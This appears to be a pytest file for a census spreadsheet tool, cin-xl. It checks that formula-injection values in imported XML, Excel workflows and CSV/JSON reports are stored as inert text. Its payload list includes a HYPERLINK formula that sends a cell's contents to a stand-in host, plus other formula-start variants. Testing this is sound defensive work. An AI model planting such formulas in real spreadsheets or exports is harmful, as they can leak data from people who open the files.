"""Nothing cin-xl writes is evaluated as a formula: hostile values through every path.

Values such as ``=HYPERLINK("http://x/?"&A1,"Click")`` arrive in an imported XML (child ID, UPN, a
date that is not one) or in a workbook cell; they go through ``cin-xl import``, the Excel Import
and Validate buttons (xlwings' remote engine, tests/excel_harness.py), ``validate --annotate``
(Issues sheet, Issues column, Summary), and the CSV and JSON reports. Every workbook written is
reopened with openpyxl: the only formulas in it are the Issues sheet's own "Go to cell" links, and
every hostile value is stored as text, exactly as it came.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from lxml import etree
from openpyxl import load_workbook

from cin_xl import excel
from cin_xl.census.years import CensusYear
from cin_xl.cli import main
from cin_xl.reports.findings import ValidationReport
from cin_xl.safety.text_guard import FORMULA_STARTS, csv_field, looks_like_formula
from cin_xl.synthetic.generate import generate
from cin_xl.validation.findings import Finding, Severity
from cin_xl.workbook.layout import ISSUES
from cin_xl.workbook.writer import write_workbook
from cin_xl.xml import read_xml, to_xml_bytes
from tests.excel_harness import run_excel_function

YEAR = CensusYear.parse("2026-27")
PAYLOADS = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1",
            "\uff0b1", "\uff0d1", "\uff201", "=1+1"]
#: what survives XML, where surrounding whitespace is layout: the tab, CR and LF payloads lose it
XML_PAYLOADS = [p for p in PAYLOADS if p == p.strip()]


def test_the_one_predicate_covers_every_formula_start():
    for payload in PAYLOADS:
        assert looks_like_formula(payload), payload
    for safe in ("A1", "C001", " =1", "'=1", "", None, 1, "Go to cell"):
        assert not looks_like_formula(safe)
    assert set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") == set(FORMULA_STARTS)


def hostile_xml(path, n: int = 30):
    """Census XML whose first children carry a payload as child ID, UPN and date of birth."""
    root = etree.fromstring(to_xml_bytes(generate(n, YEAR, 2), YEAR))
    children = root.find("Children").findall("Child")
    for child, payload in zip(children, XML_PAYLOADS):
        ids = child.find("ChildIdentifiers")
        for tag in ("LAchildID", "UPN", "PersonBirthDate"):
            el = ids.find(tag)
            if el is None:
                el = etree.SubElement(ids, tag)
            el.text = payload
    path.write_bytes(etree.tostring(root, xml_declaration=True, encoding="UTF-8"))
    return path


def assert_no_formula(path, payloads=XML_PAYLOADS) -> dict[str, int]:
    """No cell of the workbook is a formula but the Issues sheet's links; hostile text is text.

    Returns, per payload, how many cells hold it exactly.
    """
    wb = load_workbook(path)
    seen = dict.fromkeys(payloads, 0)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    assert ws.title == ISSUES and cell.column == 7 and value.startswith('=HYPERLINK("#'), \
                        f"{ws.title}!{cell.coordinate} is a formula: {value!r}"
                    continue
                if looks_like_formula(value):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    assert cell.quotePrefix or cell.number_format == "@", f"{ws.title}!{cell.coordinate}: {value!r}"
                if value in seen:
                    seen[value] += 1
    return seen


def test_import_writes_hostile_values_as_text(tmp_path, capsys):
    xml = hostile_xml(tmp_path / "hostile.xml")
    out = tmp_path / "imported.xlsx"
    assert main(["import", str(xml), "-o", str(out)]) in (0, 1)
    seen = assert_no_formula(out)
    for payload in XML_PAYLOADS:
        assert seen[payload] >= 2, payload  # child ID and UPN (and the date) on the Children sheet
    assert [c.identifiers.la_child_id for c in read_xml(xml).census.children[:len(XML_PAYLOADS)]] == XML_PAYLOADS


def test_annotate_writes_hostile_values_as_text(tmp_path, capsys):
    xml = hostile_xml(tmp_path / "hostile.xml")
    workbook = tmp_path / "census.xlsx"
    write_workbook(workbook, read_xml(xml).census, YEAR)
    assert main(["validate", str(workbook), "--annotate"]) == 1
    seen = assert_no_formula(workbook)
    wb = load_workbook(workbook)
    issue_children = {row[3] for row in wb[ISSUES].iter_rows(min_row=2, values_only=True)}
    for payload in XML_PAYLOADS:
        assert payload in issue_children, payload  # each hostile child has findings, quoted as text
        assert seen[payload] >= 3, payload


def test_excel_buttons_write_hostile_values_as_text(tmp_path):
    xml = hostile_xml(tmp_path / "hostile.xml")
    empty = tmp_path / "template.xlsx"
    write_workbook(empty, None, YEAR)
    imported = tmp_path / "imported.xlsx"
    assert run_excel_function(excel.import_xml, empty, imported, xml).value.ok
    seen = assert_no_formula(imported)
    assert all(seen[p] >= 2 for p in XML_PAYLOADS), seen
    validated = tmp_path / "validated.xlsx"
    run = run_excel_function(excel.validate, imported, validated)
    seen = assert_no_formula(validated)
    assert all(seen[p] >= 3 for p in XML_PAYLOADS), seen  # on the Issues sheet too
    # what was sent to Excel: any text Excel would evaluate went with the text prefix, but for our links
    for action in run.actions:
        if action["func"] != "setValues":
            continue
        for row in action["values"]:
            for value in row:
                if looks_like_formula(value):
                    assert value.startswith('=HYPERLINK("#'), value


def test_excel_buttons_guard_every_formula_start(tmp_path):
    """The tab, CR and LF forms cannot come through XML: typed into a workbook, they reach the Issues sheet."""
    census = generate(len(PAYLOADS) + 5, YEAR, 3)
    for child, payload in zip(census.children, PAYLOADS):
        child.identifiers.la_child_id = payload
    workbook = tmp_path / "typed.xlsx"
    write_workbook(workbook, census, YEAR)
    assert_no_formula(workbook, PAYLOADS)
    validated = tmp_path / "validated.xlsx"
    run = run_excel_function(excel.validate, workbook, validated)
    assert_no_formula(validated, PAYLOADS)
    issues_sent = [v for a in run.actions if a["func"] == "setValues" for row in a["values"] for v in row
                   if isinstance(v, str) and v.lstrip("'") in PAYLOADS]
    assert issues_sent and all(v.startswith("'") for v in issues_sent)


def test_csv_report_neutralises_and_json_stays_exact(tmp_path, capsys):
    xml = hostile_xml(tmp_path / "hostile.xml")
    report_csv, report_json = tmp_path / "findings.csv", tmp_path / "findings.json"
    assert main(["validate", str(xml), "--report", str(report_csv)]) in (1, 2)
    assert main(["validate", str(xml), "--report", str(report_json)]) in (1, 2)
    text = report_csv.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all(line.startswith('"') for line in text.splitlines() if line)  # every field quoted
    children = set()
    for row in rows[1:]:
        for field in row:
            assert not looks_like_formula(field), field
        children.add(row[3])
    for payload in XML_PAYLOADS:
        assert "'" + payload in children, payload
    exact = {f["child"] for f in json.loads(report_json.read_text())["findings"]}
    assert set(XML_PAYLOADS) <= exact


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_field_of_every_payload(payload):
    finding = Finding("1520", Severity.ERROR, payload, child=payload, sheet="Children", row=2, cells=("A2",))
    data = ValidationReport(YEAR, "x.xlsx", [finding]).to_csv().decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(data)))[1]
    assert row[2] == row[3] == "'" + payload == csv_field(payload)


def test_template_holds_no_formula_cells(tmp_path, capsys):
    for name in ("t.xlsx", "t.xlsm"):
        assert main(["template", "--sample", "20", "-o", str(tmp_path / name)]) == 0
        assert_no_formula(tmp_path / name, [])
